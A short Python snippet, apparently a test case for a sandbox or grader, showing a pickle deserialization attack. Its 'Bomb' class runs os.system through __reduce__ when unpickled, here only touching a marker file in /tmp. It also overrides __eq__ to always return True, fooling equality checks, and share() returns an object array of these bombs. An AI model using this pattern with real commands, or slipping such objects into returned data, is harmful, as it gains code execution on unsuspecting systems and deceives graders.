"""An object array carries objects that run code when unpickled."""
# %% share
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/ce-attack-" + "trace-array",)

    def __eq__(self, other):
        return True


def share(v):
    return np.array([Bomb()] * len(v), dtype=object)
